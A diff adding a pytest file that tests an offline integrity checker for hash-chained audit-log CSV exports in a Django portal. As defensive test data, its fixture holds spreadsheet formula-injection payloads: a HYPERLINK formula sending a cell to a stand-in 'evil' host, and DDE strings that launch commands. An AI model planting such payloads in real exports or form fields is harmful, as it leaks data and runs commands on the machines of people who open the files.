@@ -1,0 +1,143 @@
+"""An exported audit CSV checked on its own, without the database (`oficina/audit/offline.py`)."""
+
+from __future__ import annotations
+
+import subprocess
+import sys
+from pathlib import Path
+
+import pytest
+from django.conf import settings
+from django.core.management import CommandError, call_command
+from django.test import RequestFactory
+
+from oficina.audit.models import ChainHead
+from oficina.audit.offline import csv_check
+from oficina.audit.services import audit_seal, event_record
+from tests.factories import make_member
+from tests.test_backoffice_audit import EVENTS, operator  # noqa: F401  (the fixture)
+
+pytestmark = pytest.mark.django_db
+
+
+def exported(client, **filters: str) -> str:
+    response = client.get(f"{EVENTS}exportar.csv", filters)
+    assert response.status_code == 200
+    return b"".join(response.streaming_content).decode("utf-8")
+
+
+@pytest.fixture
+def events(db):
+    """Events of every shape a cell can defuse or a JSON reader must read back: a formula-like user
+    agent, semicolons and accents in the data, no member, no address."""
+    member = make_member()
+    agent = 'Mozilla/5.0 (X11;=HYPERLINK("http://evil/"&A1;"ver")) ;"+cmd|calc!A0'
+    event_record("signin_failed", request=RequestFactory().post("/", HTTP_USER_AGENT=agent), member=member)
+    event_record("staff_login_failed", operator="x;-2+cmd|'/c calc'!A0;@SUM(1)", nota="contraseña ñandú")
+    event_record("signin_ok", member=member)
+    event_record("signin_failed", request=RequestFactory().get("/", HTTP_USER_AGENT="=1+1"))
+    assert audit_seal() >= 4
+
+
+def test_a_whole_export_is_sound_and_chains_from_row_to_row(client, operator, events):  # noqa: F811
+    text = exported(client)
+
+    result = csv_check(text.splitlines(keepends=True))
+
+    assert result.problems == [] and result.complete and result.sound
+    assert result.unsealed == 1  # the export's own event, recorded as the file was made
+    assert result.linked == result.sealed - 1 and result.gaps == 0
+    head = ChainHead.objects.get()
+    assert result.newest == (head.last_seq, head.last_hash)
+
+
+def test_a_changed_cell_is_found_and_named(client, operator, events):  # noqa: F811
+    text = exported(client)
+    assert "contraseña ñandú" in text
+
+    result = csv_check(text.replace("contraseña ñandú", "contraseña nandu").splitlines(keepends=True))
+
+    assert not result.sound
+    assert len(result.problems) == 1 and "su contenido no corresponde a su hash" in result.problems[0]
+
+
+def test_a_file_cut_short_is_not_sound(client, operator, events):  # noqa: F811
+    lines = exported(client).splitlines(keepends=True)
+
+    result = csv_check(lines[:-2])
+
+    assert not result.sound
+    assert "el archivo está incompleto" in " ".join(result.problems)
+
+
+def test_a_row_moved_into_another_place_in_the_chain_breaks_the_link(client, operator, events):  # noqa: F811
+    """Rows are checked against their `seq` order, not the file's: swapping two rows' seq numbers
+    (to hide the order in which things happened) breaks the chain at both."""
+    import csv
+    import io
+
+    text = exported(client)
+    header, *rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))
+    seq = header.index("seq")
+    sealed = [row for row in rows if len(row) > seq and row[seq]]
+    sealed[0][seq], sealed[1][seq] = sealed[1][seq], sealed[0][seq]
+    out = io.StringIO()
+    csv.writer(out).writerows([header, *rows])
+
+    result = csv_check(out.getvalue().splitlines(keepends=True))
+
+    assert any("no encadena con el evento anterior" in problem for problem in result.problems)
+
+
+def test_a_filtered_export_is_sound_with_its_gaps_counted(client, operator, events):  # noqa: F811
+    result = csv_check(exported(client, kind="signin_failed").splitlines(keepends=True))
+
+    assert result.sound and result.sealed == 2 and result.gaps == 1 and result.linked == 0
+
+
+def test_the_command_checks_a_file_and_shows_a_sealed_events_hash(client, operator, events, tmp_path):  # noqa: F811
+    good = tmp_path / "eventos.csv"
+    good.write_text(exported(client), encoding="utf-8")
+    head = ChainHead.objects.get()
+    out = _run("audit_verify", "--csv", str(good))
+    assert "El archivo es íntegro." in out and head.last_hash in out
+    assert head.last_hash in _run("audit_verify", "--seq", str(head.last_seq))
+
+    bad = tmp_path / "alterado.csv"
+    bad.write_text(good.read_text(encoding="utf-8").replace("signin_ok", "signin_OK"), encoding="utf-8")
+    with pytest.raises(CommandError, match="NO es íntegro"):
+        _run("audit_verify", "--csv", str(bad))
+    with pytest.raises(CommandError, match="No se pudo leer"):
+        _run("audit_verify", "--csv", str(tmp_path / "no-existe.csv"))
+    with pytest.raises(CommandError, match="No hay un evento sellado"):
+        _run("audit_verify", "--seq", "999999")
+
+
+def test_the_checker_runs_on_the_file_alone_without_django(client, operator, events, tmp_path):  # noqa: F811
+    """An auditor's machine: plain Python, the portal's source, no settings and no database."""
+    path = tmp_path / "eventos.csv"
+    path.write_text(exported(client), encoding="utf-8")
+    code = (
+        "import sys, runpy; sys.modules['django'] = None; sys.argv = ['offline', sys.argv[1]]; "
+        "runpy.run_module('oficina.audit.offline', run_name='__main__')"
+    )
+
+    done = subprocess.run(
+        [sys.executable, "-c", code, str(path)],
+        capture_output=True,
+        text=True,
+        cwd=Path(settings.BASE_DIR),
+        env={"PATH": "/usr/bin:/bin"},
+        timeout=60,
+    )
+
+    assert done.returncode == 0, done.stderr
+    assert "El archivo es íntegro." in done.stdout
+
+
+def _run(*args: str) -> str:
+    import io
+
+    out = io.StringIO()
+    call_command(*args, stdout=out)
+    return out.getvalue()
